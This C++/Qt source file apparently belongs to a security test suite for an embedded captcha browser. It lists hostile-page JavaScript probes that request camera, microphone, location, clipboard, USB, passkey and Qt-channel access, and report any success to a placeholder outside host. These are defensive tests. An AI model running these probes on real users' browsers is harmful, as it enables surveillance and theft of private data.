// SPDX-FileCopyrightText: 2026 SmartCaptcha for Qt contributors
// SPDX-License-Identifier: MIT

#include "attack.h"

namespace {

/// Says so elsewhere if @p script, an expression, gives a promise that is kept. "no()" is a refusal.
Attack asking(const char *what, const QByteArray &script, bool afterAPress = false)
{
    const QByteArray ask = "Promise.race([new Promise(r => setTimeout(r, 800, 'no')),"
                           "(async () => { const no = () => 'no'; const mayAsk = "
        + QByteArray(afterAPress ? "navigator.userActivation.isActive" : "true") + "; try { return " + script
        + "; } finally { if (mayAsk) ran(); } })()])"
          ".then(r => r === 'no' ? 0 : fetch('ELSEWHERE/granted?' + r, {mode: 'no-cors'}))"
          ".catch(mistake).finally(done);";
    return Attack{.name = QByteArray("asks for ") + what,
                  .script = afterAPress ? "onclick = () => { " + ask + " }; begun = done;"
                                        : "begun = () => { " + ask + " };",
                  .act = afterAPress ? press : std::function<bool(Scene &, HostileSite &)>(),
                  .dones = afterAPress ? 3 : 1,
                  .watch = 500,
                  .isSkippedIfMissing = true};
}

} // namespace

// A page that wants what belongs to the person.
QList<Attack> attacksToAsk()
{
    QList<Attack> attacks;
    attacks << asking("the place", "new Promise((y, n) => navigator.geolocation.getCurrentPosition(y, n))");
    attacks << asking("the camera", "navigator.mediaDevices.getUserMedia({video: true})");
    attacks << asking("the microphone", "navigator.mediaDevices.getUserMedia({audio: true})");
    attacks << asking("the screen", "navigator.mediaDevices.getDisplayMedia({video: true})", true);
    attacks << asking("names of devices",
                      "navigator.mediaDevices.enumerateDevices().then(d => d.some(x => x.label) || no())");
    attacks << asking("notifications", "Notification.requestPermission().then(r => r === 'granted' || no())",
                      true);
    attacks << asking("reading the clipboard", "navigator.clipboard.readText()", true);
    attacks << asking("reading the clipboard by a command",
                      "(() => { const t = document.body.appendChild(document.createElement('textarea'));"
                      "t.focus(); document.execCommand('paste'); return t.value || no(); })()",
                      true);
    attacks << asking("writing the clipboard", "navigator.clipboard.writeText('evil')", true);
    attacks << asking("MIDI", "navigator.requestMIDIAccess({sysex: true})");
    attacks << asking("USB", "navigator.usb.requestDevice({filters: []})", true);
    attacks << asking("Bluetooth", "navigator.bluetooth.requestDevice({acceptAllDevices: true})", true);
    attacks << asking("a serial port", "navigator.serial.requestPort()", true);
    attacks << asking("HID", "navigator.hid.requestDevice({filters: []}).then(d => d.length || no())", true);
    attacks << asking("payment",
                      "new PaymentRequest([{supportedMethods: 'basic-card'}], {total: {label: 'x', amount:"
                      "{currency: 'EUR', value: '1'}}}).show()",
                      true);
    attacks << asking("a file to read", "showOpenFilePicker()", true);
    attacks << asking("a file to write", "showSaveFilePicker()", true);
    attacks << asking("a folder", "showDirectoryPicker()", true);
    attacks << asking("the whole screen", "document.documentElement.requestFullscreen().then(() => 1)", true);
    attacks << asking(
        "the mouse pointer",
        "Promise.resolve(document.body.requestPointerLock()).then(() => new Promise(r => setTimeout(() =>"
        "r(document.pointerLockElement ? 1 : no()), 300)))",
        true);
    attacks << asking("the keyboard",
                      "navigator.keyboard.lock().then(() => document.fullscreenElement || no())", true);
    attacks << asking("persistent storage", "navigator.storage.persist().then(r => r || no())");
    attacks << asking("being idle", "IdleDetector.requestPermission().then(r => r === 'granted' || no())",
                      true);
    attacks << asking("handling a scheme",
                      "(navigator.registerProtocolHandler('web+evil', location.origin + '/%s'), no())", true);
    attacks << asking("sharing", "navigator.share({title: 'x', url: location.href})", true);
    attacks << asking("contacts", "navigator.contacts.select(['name'])", true);
    attacks << asking("a passkey",
                      "navigator.credentials.get({publicKey: {challenge: new Uint8Array(16), timeout: 500}})",
                      true);
    attacks << asking("the channel to the program", "window.qt ? window.qt.webChannelTransport || 1 : no()");
    attacks << asking("Qt's library for the channel", "window.QWebChannel ? 1 : no()");
    attacks << asking("the sockets of a server elsewhere in the name of WebRTC",
                      "window.webkitRTCPeerConnection ? 1 : no()");
    return attacks;
}
